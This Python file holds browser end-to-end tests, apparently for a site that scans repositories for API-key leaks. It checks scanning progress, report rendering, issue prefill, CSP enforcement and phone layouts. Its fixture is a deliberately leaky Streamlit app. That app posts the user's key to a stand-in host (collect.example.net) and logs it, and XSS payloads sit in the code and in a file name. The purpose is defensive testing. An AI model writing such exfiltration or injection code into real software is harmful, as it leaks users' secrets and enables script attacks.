"""End to end in a real browser: Debian's chromium, driven by Playwright, against the real site
(werkzeug's server in a thread) fetching from the fake forge on 127.0.0.1.

A person pastes a repository URL, watches the progress, reads the report, opens the prefilled
issue and copies its text, at desktop and phone widths, with and without JavaScript. All along,
the browser must log no error, report no Content-Security-Policy violation, load nothing from
another host, and run nothing from the scanned code (an XSS payload sits in it).

The browser is the system's (`apt-get install chromium`, done by .ci/run); Playwright never
downloads one. Screenshots go to the temporary folder, to look at by hand.
"""
from __future__ import annotations

import re
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from fake_forge import FakeForge, Reply, serve_github, settings_for

CHROMIUM = Path("/usr/bin/chromium")
pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="browser tests need Debian's chromium at /usr/bin/chromium (.ci/run installs it: apt-get install chromium)")

from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright  # noqa: E402
from werkzeug.serving import make_server  # noqa: E402

from trustcheck.app import create_app  # noqa: E402

CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]
DESKTOP = {"viewport": {"width": 1280, "height": 800}}
PHONE = {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}
SHOTS = Path(tempfile.gettempdir())
SHA = "5ca1ab1e0123456789abcdef0123456789abcdef"
XSS = "<img src=x onerror=alert(1)>"
# A Streamlit app that logs the key (with an XSS payload on the same line) and posts it elsewhere;
# a second page, whose file name is itself a payload, prints it.
PAGE_NAME = 'pages/2_"><svg onload=alert(2)>.py'
LEAKY_APP = {
    "app.py": "import logging\nimport requests\nimport streamlit as st\n\n"
              "key = st.text_input('OpenAI API key', type='password')\n"
              f"logging.info('key=%s {XSS}', key)\n"
              "requests.post('https://collect.example.net/k', json={'k': key})\n",
    PAGE_NAME: "import streamlit as st\n\ntoken = st.text_input('Your OpenAI key', type='password')\nprint(token)\n",
    "README.md": "# A demo\n",
    "SECURITY.md": "Report privately.\n",
}
# Installed in every page before its own scripts: Content-Security-Policy violations are reported
# to the test (the console reports them too; both are watched).
CSP_LISTENER = """
document.addEventListener("securitypolicyviolation", function (e) {
  if (window.__cspViolation) { window.__cspViolation(e.violatedDirective + " blocked " + e.blockedURI); }
});
"""


@dataclass
class Site:
    url: str
    forge: FakeForge
    codeload: FakeForge
    app: object

    def repository(self, name: str, delay: float = 2.5) -> str:
        """A repository on the fake forge whose archive takes `delay` seconds (so that the
        progress page is seen); its URL as a person pastes it."""
        serve_github(self.forge, self.codeload, "alice", name, SHA, LEAKY_APP)
        self.codeload.routes[f"/alice/{name}/legacy.tar.gz/{SHA}"][0].delay = delay
        return f"{self.forge.url}/gh/alice/{name}"


@dataclass
class Watch:
    """What went wrong in a browser context: console errors and warnings, uncaught exceptions,
    CSP violations, dialogs (an alert would mean scanned code ran), requests that left the site,
    and site responses that failed."""
    site: str
    console: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    csp: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)

    def attach(self, context: BrowserContext, javascript: bool) -> None:
        if javascript:  # else the console still reports violations
            context.expose_function("__cspViolation", lambda text: self.csp.append(text))
            context.add_init_script(CSP_LISTENER)
        context.on("page", self._page)

    def _page(self, page: Page) -> None:
        page.on("console", lambda msg: msg.type in ("error", "warning") and page.url.startswith(self.site)
                and self.console.append(f"{msg.type}: {msg.text} ({msg.location.get('url')})"))
        page.on("pageerror", lambda err: self.errors.append(str(err)))
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("response", lambda r: r.url.startswith(self.site) and r.status >= 400
                and self.failed.append(f"{r.status} {r.url}"))

    def _dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _request(self, request) -> None:
        # a page may be left by a link (to the forge); what a page loads must come from the site
        if not request.is_navigation_request() and not request.url.startswith((self.site, "data:")):
            self.foreign.append(request.url)

    def assert_clean(self) -> None:
        assert self.dialogs == [], "scanned code ran in the page"
        assert self.csp == [], "Content-Security-Policy violations"
        assert self.console == [], "console errors or warnings"
        assert self.errors == [], "uncaught exceptions"
        assert self.foreign == [], "the page loaded something from another host"
        assert self.failed == [], "site requests that failed"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    forge, codeload = FakeForge(), FakeForge()
    folder = tmp_path_factory.mktemp("site")
    app = create_app({"TESTING": True, "TRUSTCHECK_SETTINGS": settings_for(forge, codeload, scans_per_hour=100),
                      "TRUSTCHECK_DATABASE": str(folder / "reports.sqlite3")})
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield Site(f"http://127.0.0.1:{server.server_port}", forge, codeload, app)
    server.shutdown()
    server.server_close()
    app.extensions["trustcheck"]["jobs"].shutdown()
    forge.close()
    codeload.close()


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


def open_context(browser: Browser, site: Site, javascript: bool = True, **options) -> tuple[BrowserContext, Watch]:
    context = browser.new_context(java_script_enabled=javascript, **options)
    context.set_default_timeout(15_000)
    watch = Watch(site.url)
    watch.attach(context, javascript)
    return context, watch


def no_horizontal_scroll(page: Page) -> None:
    """The page is no wider than the screen. A phone (is_mobile) zooms out to show a page
    that is too wide, which makes `innerWidth` grow with it: compare with the screen's width."""
    content, inner = page.evaluate("() => [document.documentElement.scrollWidth, window.innerWidth]")
    screen = min(inner, page.viewport_size["width"])
    assert content <= screen, f"{page.url} scrolls sideways ({content}px of content on a {screen}px screen): " \
                              f"{sticking_out(page)}"


def sticking_out(page: Page) -> list[str]:
    """Elements past the right edge that are not inside a box that scrolls or clips them."""
    return page.evaluate("""() => Array.from(document.querySelectorAll("body *"))
        .filter(e => e.getBoundingClientRect().right > document.documentElement.clientWidth + 0.5)
        .filter(e => { for (let p = e.parentElement; p; p = p.parentElement) {
            if (getComputedStyle(p).overflowX !== "visible") { return false; } } return true; })
        .map(e => e.tagName.toLowerCase() + (e.className ? "." + e.className : ""))""")


def paste_and_scan(page: Page, site: Site, repo_url: str, phone: bool) -> None:
    page.goto(site.url + "/")
    expect(page.get_by_role("heading", level=1)).to_have_text("What does this app do with your API key?")
    expect(page.get_by_text("This site never asks for your key.")).to_be_visible()
    field = page.get_by_label("Repository or app URL")
    button = page.get_by_role("button", name="Check")
    for element in (field, button):
        expect(element).to_be_in_viewport()
    if phone:
        no_horizontal_scroll(page)
        box = button.bounding_box()
        assert box["height"] >= 40 and box["width"] >= 200, "the button is easy to tap"
        assert field.bounding_box()["width"] >= 300, "the field takes the phone's width"
        field.tap()
    else:
        field.click()
    page.keyboard.type(repo_url)
    expect(field).to_have_value(repo_url)
    if phone:
        button.tap()
    else:
        page.keyboard.press("Enter")


def read_report(page: Page, site: Site, repo_url: str, watch: Watch, javascript: bool) -> None:
    expect(page).to_have_title(re.compile(r"alice/.* · high risk · trustcheck"))
    assert urlsplit(page.url).path == f"/r/127.0.0.1:{site.forge.port}{urlsplit(repo_url).path[3:]}/{SHA}"
    verdict = page.get_by_role("status")
    expect(verdict).to_contain_text("High risk")
    expect(verdict.locator(".value")).to_be_visible()
    expect(page.locator(".summary")).to_contain_text("The key is sent to another host")

    findings = page.locator("section:has(h2#findings) article.finding")
    expect(page.locator("h2#findings")).to_have_text(re.compile(r"Where your key goes \(\d+\)"))
    assert findings.count() >= 3
    logged = findings.filter(has_text="app.py line 6")
    expect(logged).to_have_count(1)
    expect(logged.locator(".sev")).to_have_text("High")
    trace = logged.locator("details.trace")
    expect(trace.locator("summary")).to_have_text(re.compile(r"How the key gets there \(\d+ steps\)"))
    expect(trace.locator("li").first).to_contain_text("app.py:5")
    expect(trace.locator("li").last).to_contain_text("app.py:6")

    # the payload in the code is shown as text, never run or parsed
    excerpt = logged.locator("pre.excerpt")
    expect(excerpt).to_contain_text(XSS)
    expect(excerpt.locator(".hit")).to_contain_text(XSS)
    assert page.locator("main img:not([src^='/badge/'])").count() == 0
    assert page.locator("main svg").count() == 0
    page_finding = findings.filter(has_text=PAGE_NAME)
    expect(page_finding.first).to_be_visible()
    assert watch.dialogs == []

    # every link to code points at the scanned commit, at the right line
    web = f"{site.forge.url}/gh{urlsplit(repo_url).path[3:]}"
    line_links = page.locator(f"main a[href^='{web}/blob/']")
    assert line_links.count() >= 6
    for href in line_links.evaluate_all("links => links.map(a => a.href)"):
        assert href.startswith(f"{web}/blob/{SHA}/"), href
    expect(logged.locator(".where a").first).to_have_attribute("href", f"{web}/blob/{SHA}/app.py#L6")
    expect(trace.locator("a").first).to_have_attribute("href", f"{web}/blob/{SHA}/app.py#L5")
    page_link = page_finding.first.locator(".where a").first.get_attribute("href")
    assert page_link == f"{web}/blob/{SHA}/pages/2_%22%3E%3Csvg%20onload%3Dalert%282%29%3E.py#L4"
    expect(page.get_by_role("link", name="security policy")).to_have_attribute("href", f"{web}/blob/{SHA}/SECURITY.md")

    # the prefilled issue, addressed to the fake forge's new-issue page
    button = page.get_by_role("link", name="Open an issue on the forge")
    expect(button).to_be_visible()
    href = button.get_attribute("href")
    assert href.startswith(f"{web}/issues/new?title=")
    assert len(href) <= site.app.extensions["trustcheck"]["settings"].issue_url_limit
    query = parse_qs(urlsplit(href).query)
    assert query["title"] == ["Users' API keys may be sent to a third party and logged"]
    body = query["body"][0]
    assert body.startswith("Hi! Thank you")
    assert f"{web}/blob/{SHA}/app.py#L6" in body and f"{web}/blob/{SHA}/app.py#L7" in body
    assert page.url in body  # a link back to this report
    expect(page.locator("#issue-text")).to_have_value(body)

    if javascript:
        target = urlsplit(href)
        site.forge.reply(f"{target.path}?{target.query}",
                         Reply(200, b"<!doctype html><title>New issue</title>", {"Content-Type": "text/html"}))
        with page.context.expect_page() as opened:
            button.click()
        issue_page = opened.value
        issue_page.wait_for_load_state()
        assert issue_page.url == href
        issue_page.close()
        asked = [p for p in site.forge.paths() if p.startswith(urlsplit(href).path + "?")]
        assert parse_qs(urlsplit(asked[-1]).query)["body"] == [body]

        # copy the issue text
        preview = page.locator("details.preview")
        preview.locator("summary").click()
        copy = page.locator("button.copy")
        expect(copy).to_have_text("Copy the text")
        expect(copy).to_be_visible()
        copy.click()
        expect(copy).to_have_text("Copied")
        assert page.evaluate("() => navigator.clipboard.readText()") == body
    else:
        expect(page.locator("button.copy")).to_be_hidden()  # it needs the script

    # the rest of the report
    for heading in ("Tell the app's author", "What was analyzed", "What to do", "Downloads and badge"):
        expect(page.get_by_role("heading", name=heading, exact=True)).to_be_visible()
    expect(page.locator("#coverage + p")).to_contain_text(re.compile(r"\d+ files? \([\d,]+ bytes\) analyzed"))
    expect(page.get_by_alt_text("Badge: API keys, high")).to_be_visible()
    assert page.locator("img[alt^='Badge']").evaluate("img => img.naturalWidth") > 0
    expect(page.get_by_label("Badge for a README")).to_have_value(re.compile(r"^\[!\[trustcheck: API keys\]"))


@pytest.mark.parametrize("width", ["desktop", "phone"])
def test_paste_watch_read_and_report_in_the_browser(browser, site, width):
    phone = width == "phone"
    context, watch = open_context(browser, site, **(PHONE if phone else DESKTOP))
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.url)
    page = context.new_page()
    repo_url = site.repository(f"chat-{width}")
    polls = []
    page.on("request", lambda r: "/api/scans/" in r.url and polls.append(r.url))
    progress_loads = []
    page.on("response", lambda r: "/scans/" in r.url and "/api/" not in r.url and progress_loads.append(r.status))

    paste_and_scan(page, site, repo_url, phone)
    page.wait_for_url(re.compile(r"/scans/[0-9a-f]{32}$"))
    expect(page.get_by_role("heading", level=1)).to_contain_text("Scanning")
    expect(page.locator(".stages li")).to_have_count(5)
    # the archive is slow to come: the script shows the commit found and the download going on
    expect(page.locator(".stages li.current")).to_have_attribute("data-stage", "downloading")
    expect(page.locator(".stages li.done")).to_have_text("Finding the newest commit")
    page.screenshot(path=SHOTS / f"trustcheck-progress-{width}.png")
    if phone:
        no_horizontal_scroll(page)
    page.wait_for_url(re.compile(r"/r/"))

    assert polls, "the progress page asks the JSON API"
    assert progress_loads == [200], "with JavaScript, the progress page is not reloaded"
    read_report(page, site, repo_url, watch, javascript=True)
    page.screenshot(path=SHOTS / f"trustcheck-report-{width}.png", full_page=True)
    no_horizontal_scroll(page)
    watch.assert_clean()
    context.close()


def test_without_javascript_the_progress_page_refreshes_itself_to_the_report(browser, site):
    context, watch = open_context(browser, site, javascript=False, **DESKTOP)
    page = context.new_page()
    repo_url = site.repository("chat-nojs")
    progress = []
    page.on("response", lambda r: "/scans/" in r.url and progress.append(r.status))

    paste_and_scan(page, site, repo_url, phone=False)
    page.wait_for_url(re.compile(r"/scans/"))
    expect(page.locator('meta[http-equiv="refresh"]')).to_have_count(1)
    expect(page.locator(".stages")).to_be_visible()
    page.wait_for_url(re.compile(r"/r/"))
    assert progress[0] == 200 and progress[-1] == 303 and len(progress) >= 2, progress
    read_report(page, site, repo_url, watch, javascript=False)
    page.screenshot(path=SHOTS / "trustcheck-report-nojs.png", full_page=True)
    watch.assert_clean()
    context.close()


def test_keyboard_focus_is_visible_and_the_skip_link_appears(browser, site):
    context, watch = open_context(browser, site, **DESKTOP)
    page = context.new_page()
    page.goto(site.url + "/")
    page.keyboard.press("Tab")
    skip = page.get_by_role("link", name="Skip to content")
    expect(skip).to_be_focused()
    expect(skip).to_be_in_viewport()
    for _ in range(10):
        page.keyboard.press("Tab")
        if page.evaluate("() => document.activeElement.id") == "url":
            break
    field = page.get_by_label("Repository or app URL")
    expect(field).to_be_focused()
    outline = page.evaluate("() => { const s = getComputedStyle(document.activeElement); "
                            "return [s.outlineStyle, parseFloat(s.outlineWidth)]; }")
    assert outline[0] != "none" and outline[1] >= 2
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Check")).to_be_focused()
    page.screenshot(path=SHOTS / "trustcheck-focus.png")
    watch.assert_clean()
    context.close()


def test_the_watch_sees_a_csp_violation_and_a_bad_url_gets_its_message(browser, site):
    """The harness itself: an inline script is refused and reported; a bad URL is a friendly 400."""
    context, watch = open_context(browser, site, **DESKTOP)
    page = context.new_page()
    page.goto(site.url + "/")
    page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'alert(3)'; "
                  "document.body.appendChild(s); }")
    deadline = time.monotonic() + 5
    while not watch.csp and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert watch.csp and "script-src" in watch.csp[0] and watch.dialogs == []
    assert any("Content Security Policy" in line for line in watch.console)

    page.goto(site.url + "/")
    page.get_by_label("Repository or app URL").fill("https://example.com/not/a/repo")
    page.get_by_role("button", name="Check").click()
    error = page.get_by_role("alert")
    expect(error).to_contain_text("URL of a public repository")
    expect(page.get_by_label("Repository or app URL")).to_have_value("https://example.com/not/a/repo")
    context.close()


def test_every_page_fits_a_phone(browser, site):
    """No page scrolls sideways at 390 px: the home page, the rules, each rule's page (code
    examples and long reference links included) and an error page."""
    context, watch = open_context(browser, site, **PHONE)
    page = context.new_page()
    page.goto(site.url + "/rules")
    rules = page.locator("table.rules a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert len(rules) >= 10
    for path in ["/", "/rules", *rules]:
        page.goto(site.url + path)
        no_horizontal_scroll(page)
        assert not sticking_out(page), path
    assert "`" not in page.locator("main").inner_text(), "code spans in rule texts show as code, not backticks"
    page.screenshot(path=SHOTS / "trustcheck-rule-phone.png", full_page=True)
    response = page.goto(site.url + "/no/such/page")
    assert response.status == 404
    expect(page.get_by_role("heading", level=1)).to_have_text("Not found")
    no_horizontal_scroll(page)
    watch.failed.clear()  # the 404 was asked for
    watch.console = [line for line in watch.console if "404" not in line]
    watch.assert_clean()
    context.close()
